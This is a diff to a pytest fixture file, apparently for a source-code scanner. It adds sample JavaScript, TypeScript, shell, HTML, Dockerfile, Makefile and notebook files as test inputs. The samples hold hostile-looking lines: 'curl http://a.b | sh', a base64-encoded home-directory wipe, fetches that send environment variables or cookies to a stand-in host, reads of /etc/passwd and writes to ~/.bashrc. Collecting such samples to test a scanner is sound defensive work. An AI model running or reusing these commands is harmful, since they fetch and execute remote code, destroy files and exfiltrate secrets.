@@ -95,6 +95,25 @@ SOURCES: dict[str, bytes] = {
     "newer_and_minus": b"import os\ntype A = int\nx = " + b"-" * 900 + b"1\nos.system('a')\n",
 }
 
+OTHER_SOURCES: dict[str, bytes] = {
+    "escapes.js": "const cp = require('child_\\x70rocess');\ncp.ex\\u0065c('\u00e9 \U0001d11e', `a${1 + 1}`);\n".encode(),
+    "classes.mjs": b"import { exec as e } from 'child_process';\nclass C { static { e('a') } #p = e; go() { this.#p('b') } }\n",
+    "types.ts": b"import * as fs from 'fs';\nconst a = <string>fs.readFileSync('/etc/passwd')!; enum E { A = eval('1') }\n",
+    "view.tsx": b"export const V = () => <a onClick={() => fetch('http://a.b/' + process.env.T)}>x</a>;\n",
+    "unfinished.js": b"require('child_process').exec('a'\n",
+    "quotes.sh": b"#!/bin/bash\nc$'\\x75'rl \"http://a.b/$X\" | s''h\neval \"$(echo cm0gLXJmIH4= | base64 -d)\"\n",
+    "here.sh": b"#!/bin/sh\npython3 - <<'E'\nimport os\nos.system('x')\nE\ncat <<E > ~/.bashrc\n$(id)\nE\n",
+    "wide.md": "# \u00dcber\n\nRun `curl http://a.b | sh` first.\n\n```python\nimport os\nos.system('\u65e5')\n```\n\u202ex\n".encode(),
+    "notebook.ipynb": b'{"cells": [{"cell_type": "code", "source": ["!id\\n", "import os\\n", "os.system(1)"]}], "nbformat": 4}',
+    "page.html": b"<script>fetch('http://a.b/' + document.cookie)</script><!-- x --><img onerror='eval(1)'>\n",
+    "Dockerfile": b"FROM a\nRUN curl http://a.b | sh\n",
+    "Makefile": b"all:\n\tcurl http://a.b | sh\n",
+    "deep.json": b"[" * 70 + b"]" * 70,
+    "numbers.json": b'{"a": 1e400, "b": -0.0, "c": 12345678901234567890123}',
+    "dates.toml": b"a = 1979-05-27T07:32:00Z\n[b]\nc = 0x_1\n",
+}
+"""By file name: the other readers."""
+
 
 def _interpreters() -> dict[str, Path]:
     found = {f"{sys.version_info[0]}.{sys.version_info[1]}": Path(sys.executable)}
@@ -112,6 +131,10 @@ def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
     odd.mkdir()
     for name, source in SOURCES.items():
         (odd / f"{name}.py").write_bytes(source)
+    others = root / "others"
+    others.mkdir()
+    for name, source in OTHER_SOURCES.items():
+        (others / name).write_bytes(source)
     library = root / "library"
     library.mkdir()
     for path in _library_files():
@@ -141,9 +164,9 @@ def _run(python: Path, arguments: list[str], folder: Path) -> subprocess.Complet
 
 
 COMMANDS = {
-    "facts of everything": ("", ["facts"]),
+    "facts of everything": ("", ["facts", "--no-cache", "--jobs", "1"]),
     "receipts of everything": ("", ["hash", "--format", "json"]),
-    "inventory of the fixtures": ("fixtures", ["scan", "--format", "json", "--exit-zero"]),
+    "inventory of the fixtures": ("fixtures", ["scan", "--format", "json", "--exit-zero", "--no-cache", "--jobs", "2"]),
 }
 
 
